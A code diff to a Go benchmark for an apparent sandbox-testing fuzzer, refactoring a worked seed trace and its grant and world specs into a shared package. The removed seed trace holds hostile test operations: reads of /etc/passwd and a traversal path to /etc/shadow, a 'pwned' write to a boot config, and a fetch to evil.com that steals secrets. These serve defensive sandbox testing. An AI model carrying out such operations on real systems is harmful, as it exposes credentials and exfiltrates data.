@@ -6,19 +6,9 @@ import (
 	"github.com/sbxfuzz/sbxfuzz/core"
 	"github.com/sbxfuzz/sbxfuzz/internal/must"
 	"github.com/sbxfuzz/sbxfuzz/internal/refworld"
+	"github.com/sbxfuzz/sbxfuzz/internal/seedtrace"
 	"github.com/sbxfuzz/sbxfuzz/scenario"
 )
-
-// seedTraceOps are the first seven ops of the SPEC §10 worked trace.
-var seedTraceOps = []core.Op{
-	{Kind: core.OpRead, Args: []string{"/work/data.txt"}},
-	{Kind: core.OpRead, Args: []string{"/etc/passwd"}},
-	{Kind: core.OpRead, Args: []string{"/work/../etc/shadow"}},
-	{Kind: core.OpWrite, Args: []string{"/work/out/report.txt", "done"}},
-	{Kind: core.OpWrite, Args: []string{"/system/boot.cfg", "pwned"}},
-	{Kind: core.OpFetch, Args: []string{"api.internal", "/status"}},
-	{Kind: core.OpFetch, Args: []string{"evil.com", "/steal?d=secrets"}},
-}
 
 // BenchmarkSeedTrace runs the worked trace's first seven ops round-robin on
 // one sandbox whose budgets never halt, over a journaling world as the
@@ -34,23 +24,15 @@ func BenchmarkSeedTraceLinked(b *testing.B) {
 }
 
 func benchSeedTrace(b *testing.B, links []scenario.Link) {
-	g := must.Grant(core.GrantSpec{
-		FSRead: []string{"/work/"}, FSWrite: []string{"/work/out/"},
-		NetHosts: []string{"api.internal"}, Tools: []string{"summarize"},
-		Budgets: core.Budgets{MaxOps: 1 << 62, MaxWall: 1 << 62, MaxOutputBytes: 1 << 62},
-	})
-	w := refworld.New(scenario.WorldSpec{ // journaling, as under the harness
-		Files:  []scenario.File{{Path: "/work/data.txt", Data: "hello"}},
-		Routes: []scenario.Route{{Host: "api.internal", Path: "/status", Body: "ok"}},
-		Links:  links,
-		Clock:  scenario.TickClock{Start: 0, Step: 1},
-	})
+	g := must.Grant(seedtrace.Grant())
+	w := refworld.New(seedtrace.World(links...)) // journaling, as under the harness
 	s := core.NewReference(g, w)
+	ops := seedtrace.Ops()
 	b.ReportAllocs()
 	b.ResetTimer()
 	for i := 0; i < b.N; i++ {
-		k := i % len(seedTraceOps)
-		if r := s.Run(seedTraceOps[k]); r.Kind == core.Invalid {
+		k := i % len(ops)
+		if r := s.Run(ops[k]); r.Kind == core.Invalid {
 			b.Fatal("no verdict")
 		}
 		if k == 0 && w.JournalLen() > 4096 {
